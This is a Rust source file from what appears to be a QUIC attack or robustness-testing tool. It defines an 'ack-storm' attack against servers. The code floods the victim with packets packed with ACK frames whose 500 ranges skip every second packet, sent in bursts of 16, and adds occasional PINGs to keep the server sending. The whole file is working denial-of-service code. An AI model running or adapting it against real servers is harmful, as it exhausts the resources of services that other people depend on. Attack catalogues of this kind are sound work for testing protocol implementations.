//! ACK frames with as many ranges as fit into a packet.

use courser_base::RangeSet;
use courser_crypto::Space;
use courser_wire::Frame;

use crate::attack::{Plan, Victim};
use crate::connection::ack;

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "ack-storm",
    labels: &["A22", "A25"],
    summary: "packets full of ACK frames whose ranges omit every second packet",
    victim: Victim::Server,
    make: || Box::new(ack_storm()),
};

fn ack_storm() -> Crowd {
    Crowd::new(2, |connection, progress, now| {
        let Some(largest) = connection.largest_received() else {
            return;
        };
        let mut ranges = RangeSet::new();
        for number in (0..=largest).rev().step_by(2).take(RANGES) {
            ranges.insert_one(number);
        }
        let frame = ack(&ranges).unwrap_or_default();
        let fitting = (PAYLOAD / frame.len().max(1)).max(1);
        for burst in 0..BURST {
            let mut frames = vec![frame.clone(); fitting];
            // An occasional PING makes the victim send packets that can be acknowledged.
            if burst == 0 && progress.bursts % 4 == 0 {
                frames.push(crate::encode(&Frame::Ping));
            }
            connection.send_packet(now, Space::Application, frames);
        }
    })
}

/// Ranges in one ACK frame.
const RANGES: usize = 500;

/// Bytes of frames in one packet.
const PAYLOAD: usize = 1100;

/// Packets of one connection in one turn.
const BURST: usize = 16;
